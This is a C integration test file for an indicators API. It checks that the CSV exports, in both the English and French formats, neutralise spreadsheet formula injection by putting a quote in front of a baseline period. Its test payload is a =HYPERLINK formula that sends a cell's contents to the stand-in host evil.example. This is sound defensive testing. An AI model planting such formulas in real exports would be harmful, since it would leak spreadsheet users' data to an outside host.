/* CSV injection (OWASP) in the indicators' CSV: the one free text that reaches
 * it, a target's baseline period (PUT /v1/targets/{code}, written by a
 * coordinator), is exported behind a single quote when it is a formula; the
 * figures, a negative target included, stay numbers. The labels and
 * definitions are the service's own; the series and the routes hold only
 * dates, figures and organisation kinds.
 *
 * Targets are shared: this test changes devices_distributed's (no other test
 * changes it or reads its baseline) and the fini puts the row back as it was;
 * the French CSV test changes workshop_fill_rate's, and reads the figures of
 * an organisation of its own (other tests write meanwhile). */
#include "csv.h"
#include "indicator_target.h"
#include "support/expect.h"
#include "support/fixture.h"
#include "support/tokens.h"

#include <libpq-fe.h>
#include <stdlib.h>
#include <string.h>
#include <time.h>
#include <unistd.h>

static char *admin, *reader;
static struct saved_target kept;

static void start(void)
{
    /* small-cell suppression alone: the tests read their own organisation's days */
    static const char *const env[] = {"INDICATORS_DISCLOSURE=cell", NULL};
    fixture_start_with(env);
    fixture_token(&admin, "gers-numerique", "admin");
    fixture_token(&reader, "gers-numerique", "indicators:read");
}

static struct saved_target french_kept;

static void stop(void)
{
    target_restore(&kept);
    target_restore(&french_kept);
    fixture_stop();
}

TestSuite(indicators_csv_injection, .init = start, .fini = stop, .timeout = 120);

#define PAYLOAD "=HYPERLINK(\"http://evil.example/?d=\"&A1,\"Cliquez ici\")"

Test(indicators_csv_injection, a_baseline_period_that_is_a_formula_is_exported_as_text)
{
    target_save(&kept, "devices_distributed");
    json_t *target = json_pack("{s:s, s:i, s:{s:i, s:s}}", "kind", "relative_change", "value", -30,
                               "baseline", "value", 180, "period", PAYLOAD);
    struct response *r = api_call_json("PUT", "/v1/targets/devices_distributed", admin, target);
    cr_assert_eq(r->status, 200, "%ld %s", r->status, r->body);
    response_free(r);

    r = api_call(true, "GET", "/v1/indicators?format=csv", reader, NULL, NULL);
    cr_assert_eq(r->status, 200, "%ld %s", r->status, r->body);
    struct csv csv;
    size_t bad = 0;
    cr_assert_eq(csv_parse(r->body, r->body_len, ',', &csv, &bad), 0, "line %zu", bad);
    int code = csv_column(&csv, "code"), period = csv_column(&csv, "baseline_period"),
        value = csv_column(&csv, "target_value");
    cr_assert(code >= 0 && period >= 0 && value >= 0, "the columns");
    int row = -1;
    for (size_t i = 1; i < csv.count; i++)
        if (strcmp(csv.rows[i].fields[code], "devices_distributed") == 0)
            row = (int)i;
    cr_assert_geq(row, 1, "the row of devices_distributed");
    cr_expect_str_eq(csv.rows[row].fields[period], "'" PAYLOAD, "the period, behind a quote");
    cr_expect_str_eq(csv_cell_text(csv.rows[row].fields[period]), PAYLOAD);
    cr_expect_str_eq(csv.rows[row].fields[value], "-30", "a negative figure stays a number");
    for (size_t i = 0; i < csv.count; i++)
        for (size_t c = 0; c < csv.rows[i].count; c++) {
            const char *cell = csv.rows[i].fields[c];
            cr_expect(!csv_is_neutralised(cell) || cell[0] == '\'',
                      "line %zu, column %zu: [%s] starts a formula", csv.rows[i].line, c, cell);
        }
    csv_free(&csv);
    response_free(r);
}

/* ---- the CSV for French spreadsheets ---------------------------------------- */

/* (a target of its own, french_kept: the test above runs at the same time) */

/* Whether a cell is what a spreadsheet reads as a number only (csv.h). */
static bool number_cell(const char *s)
{
    s += *s == '-' || *s == '+';
    size_t d = strspn(s, "0123456789");
    if (!d)
        return false;
    s += d;
    if (*s == '.') {
        d = strspn(++s, "0123456789");
        if (!d)
            return false;
        s += d;
    }
    return *s == '\0';
}

/* An organisation of the test's own, with a place and five satisfaction
 * answers (5, 4, 4, 4, 4: a mean of 4.20, shown); its slug into slug. */
static void own_org(char *slug, size_t cap)
{
    snprintf(slug, cap, "test-csvfr-%d-%ld", (int)getpid(), (long)time(NULL) % 1000000);
    post_created("/v1/organizations", admin,
                 json_pack("{s:s, s:s, s:s}", "slug", slug, "name", "Association d'essai du CSV",
                           "kind", "association"),
                 NULL, NULL, 0);
    char *token = test_token(slug, "places:write activity:write");
    char tag[64], place[64];
    test_nonce("csvfr", tag, sizeof tag);
    post_created("/v1/places", token,
                 json_pack("{s:s, s:s, s:s, s:s, s:s, s:s, s:s, s:s, s:f, s:f}", "source",
                           "integration-tests", "source_id", tag, "pivot", "00000000000000", "name",
                           "Médiathèque d'essai", "street", "1 rue de l'Essai", "postal_code",
                           "32300", "commune", "Mirande", "insee_code", "32256", "latitude",
                           43.513985, "longitude", 0.400199),
                 NULL, place, sizeof place);
    static const int ratings[] = {5, 4, 4, 4, 4};
    for (int i = 0; i < 5; i++)
        post_created("/v1/feedback", token,
                     json_pack("{s:s, s:s, s:i}", "subject_type", "place", "subject_id", place,
                               "rating", ratings[i]),
                     NULL, NULL, 0);
    free(token);
}

/* GET path as CSV in both styles (French by `how`: "locale" adds ?locale=fr
 * or &locale=fr, "header" sends Accept-Language: fr-FR,fr;q=0.9,en;q=0.5):
 * the French one starts with a byte-order mark, parses back with `;`, and
 * holds the same cells, numbers with a decimal comma (the list's label and
 * definition in French, the RFC 4180 one's in English); formula cells are
 * behind a quote in both. In the list (`list`), the target columns (from
 * `status` on) are compared in the row of workshop_fill_rate only, the one
 * target no other test changes meanwhile. Returns how many decimal commas
 * were seen. */
static int same_in_french(const char *path, const char *how, bool list)
{
    char en_path[512], french_path[600];
    snprintf(en_path, sizeof en_path, "%s%sformat=csv", path, strchr(path, '?') ? "&" : "?");
    snprintf(french_path, sizeof french_path, "%s%s", en_path,
             strcmp(how, "locale") == 0 ? "&locale=fr" : "");
    struct response *en = api_call(true, "GET", en_path, reader, NULL, NULL);
    struct response *fr =
        api_call(true, "GET", french_path, reader, NULL,
                 strcmp(how, "header") == 0 ? "Accept-Language: fr-FR,fr;q=0.9,en;q=0.5" : NULL);
    cr_assert_eq(en->status, 200, "%s: %ld %s", path, en->status, en->body);
    cr_assert_eq(fr->status, 200, "%s: %ld %s", french_path, fr->status, fr->body);
    cr_assert(fr->body_len >= 3 && memcmp(fr->body, "\xEF\xBB\xBF", 3) == 0,
              "%s (%s): a UTF-8 byte-order mark", path, how);
    cr_assert(en->body_len >= 3 && memcmp(en->body, "\xEF\xBB\xBF", 3) != 0, "%s: none by default",
              path);
    struct csv a, b;
    size_t bad = 0;
    cr_assert_eq(csv_parse(en->body, en->body_len, ',', &a, &bad), 0, "%s line %zu", path, bad);
    cr_assert_eq(csv_parse(fr->body + 3, fr->body_len - 3, ';', &b, &bad), 0, "%s (fr) line %zu",
                 path, bad);
    cr_assert_eq(a.count, b.count, "%s: as many lines", path);
    int commas = 0;
    for (size_t i = 0; i < a.count; i++) {
        cr_assert_eq(a.rows[i].count, b.rows[i].count, "%s line %zu: as many cells", path, i + 1);
        cr_assert_gt(a.rows[i].count, 1, "%s line %zu: separated", path, i + 1);
        bool targets = !list || i == 0 || strcmp(a.rows[i].fields[0], "workshop_fill_rate") == 0;
        for (size_t c = 0; c < a.rows[i].count && (targets || c < 9); c++) {
            char want[1024];
            snprintf(want, sizeof want, "%s", a.rows[i].fields[c]);
            if (number_cell(want))
                for (char *p = strchr(want, '.'); p; p = strchr(p, '.')) {
                    *p = ',';
                    commas++;
                }
            if (list && i > 0 && (c == 1 || c == 2)) /* label, definition: in French */
                cr_expect(b.rows[i].fields[c][0] && strcmp(b.rows[i].fields[c], want) != 0,
                          "%s line %zu cell %zu: [%s] in French", path, i + 1, c + 1,
                          b.rows[i].fields[c]);
            else
                cr_expect_str_eq(b.rows[i].fields[c], want, "%s line %zu cell %zu", path, i + 1,
                                 c + 1);
            /* (checked on the RFC 4180 cell: -27,8 is a number in French) */
            const char *cell = a.rows[i].fields[c];
            cr_expect(!csv_is_neutralised(cell) || cell[0] == '\'', "%s: [%s] starts a formula",
                      path, cell);
        }
    }
    csv_free(&a);
    csv_free(&b);
    response_free(en);
    response_free(fr);
    return commas;
}

Test(indicators_csv_injection, french_csv_in_every_indicators_csv)
{
    target_save(&french_kept, "workshop_fill_rate");
    json_t *target = json_pack("{s:s, s:f, s:{s:f, s:s}}", "kind", "relative_change", "value",
                               -30.5, "baseline", "value", 180.25, "period", PAYLOAD);
    struct response *r = api_call_json("PUT", "/v1/targets/workshop_fill_rate", admin, target);
    cr_assert_eq(r->status, 200, "%ld %s", r->status, r->body);
    response_free(r);
    char slug[64], path[256];
    own_org(slug, sizeof slug);
    snprintf(path, sizeof path, "/v1/indicators?org=%s", slug);
    int commas = same_in_french(path, "locale", true) + same_in_french(path, "header", true);
    cr_expect_gt(commas, 3, "decimal commas (4,20, -30,5, 180,25 at least)");
    snprintf(path, sizeof path, "/v1/indicators/satisfaction_mean/series?granularity=month&org=%s",
             slug);
    cr_expect_gt(same_in_french(path, "locale", false), 0, "4,20 in the series");
    snprintf(path, sizeof path, "/v1/indicators/routes?org=%s", slug);
    same_in_french(path, "header", false);
    /* a year without data anywhere: every commune, stable while others write */
    same_in_french("/v1/indicators/by-commune?code=satisfaction_mean&from=2003-01-01&to=2003-12-31",
                   "locale", false);
    /* the French payload cell, behind its quote */
    r = api_call(true, "GET", "/v1/indicators?format=csv&locale=fr", reader, NULL, NULL);
    cr_assert(strstr(r->body, "\"'"
                              "=HYPERLINK(") != NULL,
              "the formula behind a quote");
    response_free(r);
    /* English asked, or another language first: RFC 4180 */
    r = api_call(true, "GET", "/v1/indicators?format=csv", reader, NULL,
                 "Accept-Language: en-GB,fr;q=0.8");
    cr_expect(memcmp(r->body, "\"code\",", 7) == 0, "English first: commas, no mark");
    response_free(r);
    r = api_call(true, "GET", "/v1/indicators?format=csv&locale=de", reader, NULL, NULL);
    cr_expect_eq(r->status, 400, "locale=de: %ld", r->status);
    cr_expect(names_field(r, "locale"), "names locale");
    response_free(r);
    target_restore(&french_kept);
}
